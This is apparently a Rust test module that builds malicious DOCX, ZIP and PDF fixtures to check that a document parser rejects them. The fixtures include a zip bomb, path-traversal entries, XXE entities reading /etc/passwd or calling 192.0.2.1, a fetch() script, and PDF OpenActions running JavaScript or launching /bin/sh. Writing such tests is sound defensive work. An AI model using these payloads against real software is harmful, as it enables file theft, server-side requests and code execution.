//! Files that pretend: to be smaller, of another kind, whole, or what another reader would see.

use super::super::Child::Answers;
use super::super::UNSUPPORTED;
use super::{CATALOG, Hostile, PAGES, case};
use crate::harness::files::{self, docx, part, pdf_of, stream};

const DAMAGED: &str = "DAMAGED_FILE";
const ENCRYPTED: &str = "ENCRYPTED_FILE";
const EMPTY: &str = "NO_TEXT";

/// Where the directory of a zip file has its entries.
const ENTRY: &[u8] = b"PK\x01\x02";
/// A sentence that is there to be read.
const WORDS: &str = "<w:p><w:r><w:t>第一条 付款</w:t></w:r></w:p>";

pub fn all() -> Vec<Hostile> {
    let packages = [
        ("small-by-its-own-account.docx", DAMAGED, unpacks_to_more_than_it_says()),
        ("overlapping.docx", DAMAGED, two_entries_of_one_place()),
        ("twice.docx", DAMAGED, two_entries_of_one_name()),
        ("unknown-compression.docx", DAMAGED, with_entries(|entry| entry[10..12].copy_from_slice(&[99, 0]))),
        ("locked-entries.docx", ENCRYPTED, with_entries(|entry| entry[8] |= 1)),
        ("locked.docx", ENCRYPTED, files::locked_docx()),
        ("package-in-package.zip", UNSUPPORTED, files::package(&[("inner.zip", "PK\x03\x04")])),
        ("package-as-text.docx", EMPTY, files::package(&[("word/document.xml", "PK\x03\x04\x14\0\0\0")])),
        ("upwards.docx", EMPTY, docx("", &[("../../../../tmp/counsel-was-here", "x")])),
        ("absolute.docx", EMPTY, docx("", &[("/tmp/counsel-was-here", "x"), ("C:\\counsel-was-here", "x")])),
        ("macro.docx", EMPTY, docx("", &[("word/vbaProject.bin", "Auto_Open")])),
        ("external-template.docx", EMPTY, docx("", &[("word/_rels/settings.xml.rels", TEMPLATE)])),
    ];
    let declared = [
        ("declaration.docx", "<!DOCTYPE d>"),
        ("file-entity.docx", "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        ("network-entity.docx", "<!DOCTYPE d [<!ENTITY x SYSTEM \"http://192.0.2.1/x\">]>"),
        ("parameter-entity.docx", "<!DOCTYPE d [<!ENTITY % x SYSTEM \"http://192.0.2.1/x\"> %x;]>"),
        ("external-declaration.docx", "<!DOCTYPE d SYSTEM \"http://192.0.2.1/x.dtd\">"),
    ];
    let declared =
        declared.map(|(name, declaration)| (name, DAMAGED, with_document(|xml| after_prolog(&xml, declaration))));
    let texts = [
        ("unclosed.docx", DAMAGED, with_document(|xml| xml.replace("</w:body>", ""))),
        ("unknown-entity.docx", DAMAGED, with_document(|xml| xml.replace("付款", "&x;"))),
    ];
    let kinds: [(&str, &str, &[u8]); 9] = [
        ("png.docx", UNSUPPORTED, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("elf.pdf", UNSUPPORTED, b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("program.txt", UNSUPPORTED, b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
        ("page.txt", UNSUPPORTED, b"<!DOCTYPE html><script>fetch('http://192.0.2.1')</script>"),
        ("rich-text.docx", UNSUPPORTED, b"{\\rtf1\\ansi{\\object\\objdata 0105}}"),
        ("gzip.pdf", UNSUPPORTED, b"\x1f\x8b\x08\0\0\0\0\0\0\x03"),
        ("seven.docx", UNSUPPORTED, b"7z\xbc\xaf\x27\x1c\0\x04"),
        ("rar.docx", UNSUPPORTED, b"Rar!\x1a\x07\x01\0"),
        ("old-word.docx", UNSUPPORTED, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1W\0o\0r\0d\0D\0o\0c\0u\0m\0e\0n\0t\0"),
    ];
    let kinds = kinds.map(|(name, code, bytes)| (name, code, bytes.to_vec()));
    let papers = [
        ("nothing-more.pdf", DAMAGED, b"%PDF-1.7\n".to_vec()),
        ("locked.pdf", ENCRYPTED, files::locked_pdf()),
        ("page-of-html.pdf", DAMAGED, b"<html>%PDF-1.7<script>alert(1)</script></html>".to_vec()),
        ("package-behind.pdf", DAMAGED, [b"%PDF-1.7\n".as_slice(), &docx(WORDS, &[])].concat()),
        ("script.pdf", EMPTY, acting("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
        ("calling.pdf", EMPTY, acting("/OpenAction<</S/URI/URI(http://192.0.2.1/)>>")),
        ("starting.pdf", EMPTY, acting("/OpenAction<</S/Launch/F(/bin/sh)>>")),
        ("endless-length.pdf", EMPTY, drawn(b"<</Length 99999999999>>stream\n0 0 1 1 re f\nendstream")),
        ("negative-length.pdf", EMPTY, drawn(b"<</Length -1>>stream\n0 0 1 1 re f\nendstream")),
        ("filters.pdf", EMPTY, drawn(&stream(&format!("/Filter[{}]", "/FlateDecode".repeat(500)), b"x"))),
    ];
    let whole = [packages.to_vec(), declared.to_vec(), texts.to_vec(), kinds.to_vec(), papers.to_vec()].concat();
    let whole = whole.into_iter().map(|(name, code, bytes)| case(name, Answers, code, bytes));
    whole.chain(truncated()).collect()
}

const TEMPLATE: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="a" Type="attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>"#;

/// A document that is cut off after every KiB.
fn truncated() -> impl Iterator<Item = Hostile> {
    let whole =
        docx(&format!("{WORDS}{}", (0..400).map(|n| format!("<w:p w:a=\"{:x}\"/>", n * n)).collect::<String>()), &[]);
    let cuts: Vec<usize> = (1..).map(|kib| kib << 10).take_while(|at| *at < whole.len()).collect();
    cuts.into_iter().map(move |at| case(format!("cut-at-{at}.docx"), Answers, DAMAGED, whole[..at].to_vec()))
}

fn acting(action: &str) -> Vec<u8> {
    let catalog = CATALOG.replace(">>", &format!("{action}>>"));
    let page = "<</Type/Page/Parent 2 0 R/Contents 4 0 R>>";
    pdf_of(&[catalog.into(), PAGES.into(), page.into(), stream("", b"0 0 1 1 re f")], "")
}

/// A page with this object as its content.
fn drawn(content: &[u8]) -> Vec<u8> {
    let page = "<</Type/Page/Parent 2 0 R/Contents 4 0 R>>";
    pdf_of(&[CATALOG.into(), PAGES.into(), page.into(), content.to_vec()], "")
}

/// A document whose XML was changed.
fn with_document(change: impl Fn(String) -> String) -> Vec<u8> {
    let xml = change(part("document", &format!("<w:body>{WORDS}</w:body>")));
    files::package(&[("[Content_Types].xml", "<Types/>"), ("word/document.xml", &xml)])
}

fn after_prolog(xml: &str, more: &str) -> String {
    xml.replacen("?><", &format!("?>{more}<"), 1)
}

/// A document whose entries in the directory, and at their places, were changed alike.
fn with_entries(change: impl Fn(&mut [u8])) -> Vec<u8> {
    let mut bytes = docx(WORDS, &[]);
    for at in places(&bytes, ENTRY) {
        change(&mut bytes[at..]);
    }
    // At its place an entry has the same fields two bytes earlier.
    for at in places(&bytes, b"PK\x03\x04") {
        let mut entry = [&[0, 0], &bytes[at..at + 30]].concat();
        change(&mut entry);
        bytes[at..at + 30].copy_from_slice(&entry[2..]);
    }
    bytes
}

fn places(bytes: &[u8], what: &[u8]) -> Vec<usize> {
    (0..bytes.len() - what.len()).filter(|at| bytes[*at..].starts_with(what)).collect()
}

/// 40 MiB of blanks, packed, of which the directory says that they are ten bytes.
fn unpacks_to_more_than_it_says() -> Vec<u8> {
    let mut bytes = files::packed(&[("word/document.xml", &part("document", &" ".repeat(40 << 20)))]);
    for at in places(&bytes, ENTRY) {
        bytes[at + 24..at + 28].copy_from_slice(&10_u32.to_le_bytes());
    }
    bytes
}

/// Two names of the directory stand for the same bytes.
fn two_entries_of_one_place() -> Vec<u8> {
    let mut bytes = docx(WORDS, &[]);
    let entries = places(&bytes, ENTRY);
    let first: [u8; 4] = bytes[entries[0] + 42..entries[0] + 46].try_into().unwrap();
    bytes[entries[1] + 42..entries[1] + 46].copy_from_slice(&first);
    bytes
}

/// Two documents in one package: which one is meant?
fn two_entries_of_one_name() -> Vec<u8> {
    let mut bytes = docx(WORDS, &[("word/documenX.xml", &part("document", ""))]);
    for at in places(&bytes, b"word/documenX.xml") {
        bytes[at + 12] = b't';
    }
    bytes
}
